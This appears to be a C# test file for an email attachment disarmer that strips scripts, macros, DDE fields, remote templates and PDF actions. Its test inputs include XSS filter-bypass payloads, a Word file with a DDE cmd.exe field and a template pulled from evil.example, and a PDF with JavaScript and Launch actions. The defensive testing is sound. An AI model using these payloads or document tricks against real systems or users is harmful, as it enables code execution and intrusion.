using System.IO.Compression;
using System.Text;
using Sekisho.Inspect.Disarm;
using Sekisho.Inspect.Tests.Attachments;
using Sekisho.Mime;
using Sekisho.Testing;

namespace Sekisho.Inspect.Tests.Disarm;

public sealed class DisarmerTests
{
    private const string Word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    [Fact]
    public void A_message_without_anything_active_stays_as_it_is()
    {
        var message = Bytes(Inspecting.WithAttachment("a.png", "\u0089PNG"u8.ToArray()));
        var disarmed = Disarm(message);
        Assert.Empty(disarmed.Changes);
        Assert.True(message.AsSpan().SequenceEqual(disarmed.Content.Span));
    }

    [Fact]
    public void Pages_lose_what_runs_sends_or_frames_and_keep_their_look()
    {
        var disarmed = Disarm(Page("<p style=\"color:red\" onclick=\"a()\">Hello <b>you</b></p><script>a('<p>')</script><form action=\"https://x.example\"><input name=p></form><iframe src=//x></iframe><a href=\" java\tscript:a()\">no</a><a href='https://example.net/?a=1&amp;b=2'>yes</a><img src=cid:logo><!-- x --><svg><p>in</svg>"));
        Assert.Equal(["page"], disarmed.Changes.Select(change => change.What));
        Assert.Equal("<p style=\"color:red\">Hello <b>you</b></p><a rel=\"noopener noreferrer\" target=\"_blank\">no</a><a href=\"https://example.net/?a=1&amp;b=2\" rel=\"noopener noreferrer\" target=\"_blank\">yes</a><img src=\"cid:logo\">", TextOf(disarmed));
        Assert.Equal("event handlers, script, form, input, iframe, address that runs, svg", disarmed.Changes[0].Why);
    }

    [Theory]
    [InlineData("<<script>alert(1)</script>")]
    [InlineData("<scr<script>ipt>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)//")]
    [InlineData("<a/href=\"javascript&colon;alert(1)\">x</a>")]
    [InlineData("<p title='\"><script>alert(1)</script>'>x")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<div style=\"background:u\\72l(javascript:alert(1))\">x</div>")]
    [InlineData("<!--><script>alert(1)</script>-->")]
    [InlineData("<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>")]
    public void Tricks_against_cleaners_of_pages_leave_nothing_that_runs(string page)
    {
        var text = PageCleaning.Clean(page, withoutRemotePictures: false).Text;
        Assert.DoesNotContain("<script", text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(" onerror=", text.Replace("\"&gt;", "", StringComparison.Ordinal).Split('"')[0], StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript", text.Replace("&", "", StringComparison.Ordinal).Split(">x<")[0], StringComparison.OrdinalIgnoreCase);
        // Cleaning what is clean changes nothing any more but what is added to links.
        Assert.Equal(text, PageCleaning.Clean(text, withoutRemotePictures: false).Text);
    }

    [Fact]
    public void A_document_that_names_its_own_catalogue_as_an_attachment_is_replaced()
    {
        // Fuzzing found it: without the catalogue nothing is left to number.
        var pdf = "%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(a)>>/Names<</EF<</F 1 0 R>>>>>> endobj trailer <</Root 1 0 R>>"u8.ToArray();
        Assert.Equal(["replaced"], Disarm(Bytes(Inspecting.WithAttachment("a.pdf", pdf, "application/pdf"))).Changes.Select(change => change.What));
    }

    [Fact]
    public void Pages_can_become_text()
    {
        var disarmed = Disarm(Page("<h1>Title</h1><p>Two &amp; <a href='https://example.net/'>three</a></p>"), new DisarmOptions { PagesToText = true });
        Assert.Equal("Title\nTwo & three <https://example.net/>\n", TextOf(disarmed).ReplaceLineEndings("\n"));
        Assert.Equal("text/plain", MimeMessage.Read(disarmed.Content).Root.ContentType.MediaType);
    }

    [Fact]
    public async Task Macros_go_out_of_documents_and_the_text_stays()
    {
        var document = ZipBytes.Of(
            ("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types xmlns=\"t\"><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")),
            ("word/document.xml", Encoding.UTF8.GetBytes($"<w:document xmlns:w=\"{Word}\"><w:t>Words</w:t><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:document>")),
            ("word/settings.xml", Encoding.UTF8.GetBytes($"<w:settings xmlns:w=\"{Word}\"><w:attachedTemplate/></w:settings>")),
            ("word/_rels/settings.xml.rels", "<Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"u8.ToArray()),
            ("word/_rels/document.xml.rels", "<Relationships xmlns=\"r\"><Relationship Id=\"rId1\" Type=\"http://x/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"rId2\" Type=\"http://x/hyperlink\" Target=\"https://example.net/\" TargetMode=\"External\"/></Relationships>"u8.ToArray()),
            ("word/vbaProject.bin", [1, 2, 3]));
        var disarmed = Disarm(Bytes(Inspecting.WithAttachment("a.docm", document)));
        Assert.Equal(["macros"], disarmed.Changes.Select(change => change.What));
        var part = MimeMessage.Read(disarmed.Content).Parts[2];
        Assert.Equal("a.docx", part.FileNames[0]);
        using var zip = new ZipArchive(new MemoryStream(part.DecodeBody()));
        Assert.DoesNotContain(zip.Entries, entry => entry.FullName.Contains("vba", StringComparison.OrdinalIgnoreCase));
        Assert.Contains("wordprocessingml.document.main+xml", await ReadAsync(zip, "[Content_Types].xml"), StringComparison.Ordinal);
        var text = await ReadAsync(zip, "word/document.xml");
        Assert.Contains(">Words<", text, StringComparison.Ordinal);
        Assert.DoesNotContain("DDE", text, StringComparison.Ordinal);
        Assert.DoesNotContain("rId1", await ReadAsync(zip, "word/_rels/document.xml.rels"), StringComparison.Ordinal);
        Assert.Contains("https://example.net/", await ReadAsync(zip, "word/_rels/document.xml.rels"), StringComparison.Ordinal);
        var after = await Inspecting.MessageAsync(disarmed.Content.ToArray());
        Assert.Empty(after.List("office.external"));
        Assert.Empty(after.List("office.dde"));
    }

    [Fact]
    public async Task Pdf_documents_lose_what_acts_and_keep_their_pages()
    {
        var disarmed = Disarm(Bytes(Inspecting.WithAttachment("a.pdf", Encoding.Latin1.GetBytes(
            "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>>> endobj\n2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99.5 99.5]/Annots[<</A<</S/URI/URI(https://example.net/)>>>>]>> endobj\n"
            + "4 0 obj <</S/JavaScript/JS(app.alert\\(1\\))>> endobj\n5 0 obj <</Type/Filespec/F(a.txt)/EF<</F 6 0 R>>>> endobj\n6 0 obj <</Type/EmbeddedFile/Length 5>>stream\nwords\nendstream endobj\n7 0 obj <</S/Launch/F(cmd.exe)>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF"))));
        Assert.Equal(["pdf"], disarmed.Changes.Select(change => change.What));
        var pdf = Encoding.Latin1.GetString(MimeMessage.Read(disarmed.Content).Parts[2].DecodeBody());
        foreach (var word in (string[])["JavaScript", "alert", "OpenAction", "Open#41ction", "Launch", "EmbeddedFile", "words"]) Assert.DoesNotContain(word, pdf, StringComparison.Ordinal);
        Assert.Contains("/MediaBox[0 0 99.5 99.5]", pdf, StringComparison.Ordinal);
        var after = await Inspecting.MessageAsync(disarmed.Content.ToArray());
        Assert.Equal(1L, after.Fact("pdf.pages"));
        Assert.Equal(["https://example.net/"], after.List("pdf.uris"));
        Assert.Empty(after.List("pdf.javascript").Concat(after.List("pdf.launch")).Concat(after.List("pdf.embedded_files")).Concat(after.List("pdf.broken")));
    }

    [Theory]
    [InlineData("run.exe", "MZ")]
    [InlineData("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>a()</script></svg>")]
    [InlineData("a.rtf", "{\\rtf1{\\object{\\*\\objdata 0105000002000000080000005061636b61676500}}}")]
    [InlineData("a.js", "var a = new ActiveXObject('WScript.Shell');")]
    public void What_has_no_harmless_form_becomes_a_note(string name, string content)
    {
        var disarmed = Disarm(Bytes(Inspecting.WithAttachment(name, Encoding.UTF8.GetBytes(content))), new DisarmOptions { OriginalId = "0123abc" });
        Assert.Equal(["replaced"], disarmed.Changes.Select(change => change.What));
        var part = MimeMessage.Read(disarmed.Content).Parts[2];
        Assert.Equal($"{name}.removed.txt", part.FileNames[0]);
        var note = Encoding.UTF8.GetString(part.DecodeBody());
        Assert.Contains($"'{name}' was removed", note, StringComparison.Ordinal);
        Assert.Contains($"添付ファイル「{name}」は", note, StringComparison.Ordinal);
        Assert.Contains("0123abc", note, StringComparison.Ordinal);
    }

    [Fact]
    public void Everything_can_be_replaced()
    {
        var message = Bytes(Inspecting.WithAttachment("a.txt", "words"u8.ToArray()));
        Assert.Equal(["replaced"], Disarm(message, new DisarmOptions { ReplaceAllAttachments = true }).Changes.Select(change => change.What));
    }

    [Fact]
    public void What_only_some_readers_see_is_gone_and_the_header_stays()
    {
        var message = Bytes("From: a@example.com\nSubject: =?utf-8?B?44GC?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a; boundary=b\n\n--a\nContent-Type: text/plain\n\nfirst\n--b\nContent-Disposition: attachment; filename=run.exe\n\nMZ\n--b--\n--a--\n");
        var disarmed = Disarm(message);
        Assert.NotEmpty(disarmed.Changes);
        var rebuilt = MimeMessage.Read(disarmed.Content);
        Assert.Empty(rebuilt.Ambiguities);
        Assert.Equal("あ", rebuilt.Header("Subject")!.Value.Text);
        Assert.Single(rebuilt.HeaderAll("MIME-Version"));
        Assert.DoesNotContain(rebuilt.Parts, part => part.FileNames.Contains("run.exe"));
    }

    [CorpusFact("files/oletools")]
    public async Task Documents_of_the_corpus_are_harmless_afterwards()
    {
        var (files, rebuilt, replaced, same) = (0, 0, 0, 0);
        List<string> left = [];
        foreach (var file in Corpora.Files("files/oletools", "*").Where(file => !file.EndsWith(".tsv", StringComparison.Ordinal) && !file.EndsWith(".md", StringComparison.Ordinal)))
        {
            files++;
            var disarmed = Disarm(Bytes(Inspecting.WithAttachment(Path.GetFileName(file), await File.ReadAllBytesAsync(file))));
            if (disarmed.Changes.Count == 0) same++;
            else if (disarmed.Changes.Any(change => change.What == "replaced")) replaced++;
            else rebuilt++;
            var after = await Inspecting.MessageAsync(disarmed.Content.ToArray());
            foreach (var fact in (string[])["office.macros", "office.xlm", "office.dde", "office.external", "office.activex", "office.embedded", "attachments.blocked"])
                if (after.List(fact).Length > 0) left.Add($"{Path.GetFileName(file)}: {fact}");
        }

        Assert.Equal([], left);
        Assert.Equal("52 files: 24 rebuilt, 21 replaced, 7 same", $"{files} files: {rebuilt} rebuilt, {replaced} replaced, {same} same");
    }

    private static DisarmedMessage Disarm(byte[] message, DisarmOptions? how = null) => new Disarmer(new InspectOptions()).Disarm(message, how ?? new DisarmOptions());

    private static string TextOf(DisarmedMessage message) => MimeMessage.Read(message.Content).Parts.First(part => part.IsLeaf).ReadText().TrimEnd('\r', '\n') + (MimeMessage.Read(message.Content).Root.ContentType.MediaType == "text/plain" ? "\n" : "");

    private static byte[] Page(string page) => Bytes($"From: a@example.com\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{page}");

    private static byte[] Bytes(string message) => Encoding.UTF8.GetBytes(message.ReplaceLineEndings("\r\n"));

    private static async Task<string> ReadAsync(ZipArchive zip, string name)
    {
        using var reader = new StreamReader(await zip.GetEntry(name)!.OpenAsync());
        return await reader.ReadToEndAsync();
    }
}
